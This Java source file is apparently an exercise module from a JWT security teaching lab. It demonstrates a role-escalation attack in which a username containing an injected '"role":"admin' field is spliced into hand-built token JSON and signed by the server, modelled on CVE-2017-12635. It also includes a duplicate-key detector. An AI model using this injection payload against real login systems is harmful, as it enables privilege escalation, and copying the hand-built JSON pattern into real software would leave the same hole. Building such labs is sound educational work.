package loginlens.attack.forging;

import com.auth0.jwt.algorithms.Algorithm;
import java.nio.charset.StandardCharsets;
import java.util.List;
import loginlens.attack.Attack;
import loginlens.attack.Card;
import loginlens.attack.Difficulty;
import loginlens.attack.Forging;
import loginlens.attack.Parameter;
import loginlens.attack.RealCase;
import loginlens.attack.Setup;
import loginlens.attack.StrictServer;
import loginlens.attack.Values;
import loginlens.attack.careless.JsonByHand;
import loginlens.attack.lab.Lab;
import loginlens.attack.lab.Verifier;
import loginlens.text.Message;
import loginlens.token.checks.CheckKind;
import loginlens.token.encoding.Base64Url;
import loginlens.token.encoding.JsonReader;
import loginlens.token.encoding.Quoted;

/**
 * A username brings a second role into JSON that is put together by hand, and the server signs it. Case: the CVE list,
 * CVE-2017-12635 (two parsers, two values for one name).
 */
final class NameTwice implements Attack {
    private static final Parameter USERNAME = new Parameter("username", "x\",\"role\":\"admin", List.of());
    private static final Card CARD = Card.of("twice", Difficulty.HARD, "RFC 8725 §2.6",
            new RealCase("Apache CouchDB before 1.7.0 and 2.1.1", 2017, "CVE-2017-12635"), CheckKind.FORM,
            JsonByHand.class);

    @Override
    public Card card() {
        return CARD;
    }

    @Override
    public List<Parameter> parameters() {
        return List.of(USERNAME);
    }

    @Override
    public Setup prepare(Lab lab, Values values) {
        JsonByHand server = new JsonByHand(lab.hs256());
        String honest = issue(lab, server, lab.student().username());
        String username = values.of(USERNAME);
        Forging forging = Steps.withTokenOf(lab, honest).knowing("attack.known.register");
        forging.fact(Message.of("attack.fact.username"), username);
        forging.fact(Message.of("attack.fact.payload"), payload(lab, server, username));
        forging.found(Message.of("attack.move.register", Quoted.text(username)), issue(lab, server, username));
        Verifier twin = token -> {
            String json = new String(Base64Url.decode(token.split("\\.")[1]).bytes(), StandardCharsets.UTF_8);
            Steps.require(JsonReader.read(json).problems().isEmpty(), "a name twice");
            return Steps.strict(lab.hs256()).verify(token);
        };
        return new Setup(server, twin, new StrictServer(lab.key(), lab), honest, forging.done());
    }

    private static String payload(Lab lab, JsonByHand server, String username) {
        long now = lab.now().getEpochSecond();
        return server.payload(username, "\"iss\":\"" + Lab.ISSUER + "\",\"aud\":\"" + Lab.AUDIENCE + "\",\"iat\":" + now
                + ",\"exp\":" + (now + 43_200));
    }

    /** The server's own way to make a token: JSON by hand, and a genuine signature. */
    private static String issue(Lab lab, JsonByHand server, String username) {
        String header = encoded("{\"alg\":\"HS256\",\"typ\":\"JWT\"}");
        String payload = encoded(payload(lab, server, username));
        Algorithm hs256 = lab.hs256();
        byte[] signature = hs256.sign(header.getBytes(StandardCharsets.US_ASCII),
                payload.getBytes(StandardCharsets.US_ASCII));
        return header + "." + payload + "." + Base64Url.encode(signature);
    }

    private static String encoded(String json) {
        return Base64Url.encode(json.getBytes(StandardCharsets.UTF_8));
    }
}
